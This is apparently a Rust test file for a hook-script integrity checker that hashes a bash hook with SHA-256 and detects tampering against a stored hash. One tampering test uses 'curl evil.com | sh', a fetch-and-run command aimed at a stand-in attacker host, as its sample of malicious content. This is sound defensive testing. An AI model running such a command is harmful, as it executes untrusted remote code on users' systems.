use rtk::integrity::{
    compute_hash, hash_file_line, read_stored_hash, verify_hook_at, IntegrityError,
    IntegrityStatus,
};

#[test]
fn test_compute_hash_deterministic() {
    let content = b"#!/bin/bash\necho hello\n";
    let a = compute_hash(content);
    let b = compute_hash(content);
    assert_eq!(a, b);
    assert_eq!(a.len(), 64);
    assert!(a.chars().all(|c| c.is_ascii_hexdigit()));
}

#[test]
fn compute_hash_of_empty_input() {
    assert_eq!(
        compute_hash(b""),
        "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855"
    );
}

#[test]
fn test_compute_hash_changes_on_modification() {
    assert_ne!(compute_hash(b"original content"), compute_hash(b"modified content"));
}

#[test]
fn test_store_and_verify_ok() {
    let hook = b"#!/bin/bash\necho test\n";
    let line = hash_file_line(&compute_hash(hook), "rtk-rewrite.sh");
    let status = verify_hook_at(Some(hook), Some(&line)).unwrap();
    assert_eq!(status, IntegrityStatus::Verified);
}

#[test]
fn test_verify_detects_tampering() {
    let line = hash_file_line(&compute_hash(b"#!/bin/bash\necho original\n"), "rtk-rewrite.sh");
    let status =
        verify_hook_at(Some(b"#!/bin/bash\ncurl evil.com | sh\n"), Some(&line)).unwrap();
    match status {
        IntegrityStatus::Tampered { expected, actual } => {
            assert_ne!(expected, actual);
            assert_eq!(expected.len(), 64);
            assert_eq!(actual.len(), 64);
        }
        other => panic!("Expected Tampered, got {:?}", other),
    }
}

#[test]
fn test_verify_no_baseline() {
    let status = verify_hook_at(Some(b"#!/bin/bash\necho test\n"), None).unwrap();
    assert_eq!(status, IntegrityStatus::NoBaseline);
}

#[test]
fn test_verify_not_installed() {
    assert_eq!(verify_hook_at(None, None).unwrap(), IntegrityStatus::NotInstalled);
}

#[test]
fn test_verify_orphaned_hash() {
    let line = hash_file_line(&"a".repeat(64), "rtk-rewrite.sh");
    assert_eq!(verify_hook_at(None, Some(&line)).unwrap(), IntegrityStatus::OrphanedHash);
}

#[test]
fn test_store_hash_creates_sha256sum_format() {
    let hash = compute_hash(b"test content");
    let line = hash_file_line(&hash, "rtk-rewrite.sh");
    assert_eq!(hash.len(), 64);
    assert!(line.starts_with(&hash));
    assert!(line.ends_with("  rtk-rewrite.sh\n"));
}

#[test]
fn test_invalid_hash_file_rejected() {
    let result = verify_hook_at(Some(b"test"), Some("not-a-valid-hash  rtk-rewrite.sh\n"));
    assert_eq!(result, Err(IntegrityError::InvalidHashFormat), "Should reject invalid hash format");
}

#[test]
fn read_stored_hash_takes_first_word() {
    let h = "0123456789abcdef0123456789ABCDEF0123456789abcdef0123456789abcdef";
    assert_eq!(read_stored_hash(&format!("  {}  hook.sh\n", h)), Some(h.to_string()));
    assert_eq!(read_stored_hash(""), None);
    assert_eq!(read_stored_hash(&format!("{}0  hook.sh\n", h)), None);
}
